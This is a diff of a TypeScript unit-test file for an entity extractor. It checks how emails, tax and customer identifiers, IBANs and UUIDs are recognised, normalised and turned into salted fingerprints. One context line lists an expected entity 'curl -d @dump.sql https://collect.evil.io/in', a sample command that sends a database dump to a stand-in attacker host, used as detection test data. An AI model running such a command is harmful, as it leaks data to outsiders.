@@ -8,6 +8,7 @@ import {
   entityFingerprints,
   extractEntities,
   fingerprint,
+  identifier,
   newSalt,
   valueKeys,
 } from '../../services/decision/src/flow/entities.js';
@@ -35,6 +36,14 @@ describe('entities', () => {
       'command:curl -d @dump.sql https://collect.evil.io/in',
       'amount:4999',
     ]);
+  });
+
+  test('an address in a query string, a path or quotes is the address alone', () => {
+    const text = "see https://x.io/?email=ann@acme.com, post to=bob@y.io, where e = 'o'brien@z.io'";
+    assert.deepEqual(
+      kinds(text).filter((k) => k.startsWith('email:')),
+      ['email:ann@acme.com', 'email:bob@y.io', "email:o'brien@z.io"],
+    );
   });
 
   test('from JSON: strings anywhere, and members whose names give a kind', () => {
@@ -66,6 +75,57 @@ describe('entities', () => {
   });
 });
 
+describe('identifier tokens', () => {
+  const ids = (content: unknown, limit = 128) =>
+    extractEntities(content, 256, limit)
+      .filter((e) => e.kind === 'id')
+      .map((e) => e.value);
+
+  test('tax ids, customer, phone and policy numbers, UUIDs, in their normal form', () => {
+    const text = [
+      'Acme GmbH, VAT DE811234567 (FR 40 303 265 045 in France), customer C-003881.',
+      'Call +49 40 5550 1288 about policy POL-2023-88812; record 550e8400-e29b-41d4-a716-446655440000.',
+      'Steuernummer 21/815/08150, see https://crm.acme.com/c/C-003882?vat=ATU68120934.',
+    ].join('\n');
+    assert.deepEqual(ids(text), [
+      'DE811234567',
+      'FR40303265045',
+      'C003881',
+      '494055501288',
+      'POL202388812',
+      '550E8400E29B41D4A716446655440000',
+      '2181508150',
+      'C003882',
+      'ATU68120934',
+    ]);
+    assert.deepEqual(ids({ customer: { vat_id: 'DE 811 234 567', number: 'C-003881' } }), ['DE811234567', 'C003881']);
+  });
+
+  test('dates, times, periods, amounts, counts, versions and words are not identifiers', () => {
+    const text = [
+      'On 2024-01-31, 31.01.2024, 01/31/2024 and 2024-01-31T10:20:00Z (2024-01-31 10:20:00) we paid',
+      'EUR 12,500.00, $1,200,000 and 12500000 for 1.234.567 units; FY2024-Q3, 2023/2024, KW12-2024;',
+      'ISO-27001, COVID-19, Windows10, release 10.4.12.3, order 12 was shipped; 1749640800; 1600x900.',
+    ].join('\n');
+    assert.deepEqual(ids(text), []);
+    for (const token of ['2024-01-31', '20240131', '1.234.567', '1 200 000', 'v2-beta-12', 'Q3-2024']) {
+      assert.equal(identifier(token), undefined, token);
+    }
+  });
+
+  test('not an IBAN or an address again, and only when asked for, at most the limit', () => {
+    const text = 'Pay DE89 3704 0044 0532 0130 00 for ann.12345678@acme.com, invoice INV-2024-0042.';
+    assert.deepEqual(
+      extractEntities(text, 256, 128).map((e) => `${e.kind}:${e.value}`),
+      ['email:ann.12345678@acme.com', 'account:DE89370400440532013000', 'id:INV20240042'],
+    );
+    assert.deepEqual(ids(text, 0), [], 'none unless asked for');
+    const many = Array.from({ length: 200 }, (_, i) => `C-${String(100000 + i)}`).join(' ');
+    assert.equal(ids(many).length, 128);
+    assert.equal(extractEntities(many, 5, 128).length, 128, 'identifiers have their own bound');
+  });
+});
+
 describe('fingerprints', () => {
   test('HMAC of kind:value under the session salt, 16 base64url characters', () => {
     const salt = 'c2FsdHNhbHRzYWx0c2FsdA';
@@ -90,6 +150,7 @@ describe('fingerprints', () => {
       host: 'host:x.io',
     });
     assert.deepEqual(valueKeys({ kind: 'text', value: 'hello' }), {});
+    assert.deepEqual(valueKeys({ kind: 'id', value: 'DE811234567' }), { exact: 'id:DE811234567' });
     const salt = newSalt();
     const fps = entityFingerprints(salt, extractEntities('write to a@x.io or b@x.io'));
     assert.deepEqual(fps, [
@@ -103,4 +164,21 @@ describe('fingerprints', () => {
     const fps = entityFingerprints(newSalt(), extractEntities('secret-partner@hidden.io'));
     assert.ok(!JSON.stringify(fps).includes('hidden'));
   });
+});
+
+test('an identifier member is taken whole, whatever its spacing', () => {
+  const ids = (content: unknown) =>
+    extractEntities(content, 64, 128)
+      .filter((e) => e.kind === 'id')
+      .map((e) => e.value);
+  assert.deepEqual(ids({ tax_id: '47 036 892 816', vat: 'FR 40 303 265 045', count: 12, client_id: 'C-12' }), [
+    '47036892816',
+    'FR40303265045',
+  ]);
+  assert.deepEqual(ids({ tax_id: '47 036 892 816' }).length, 1);
+  assert.deepEqual(
+    extractEntities({ tax_id: '47 036 892 816' }, 64, 0).filter((e) => e.kind === 'id'),
+    [],
+    'no identifiers unless asked for',
+  );
 });
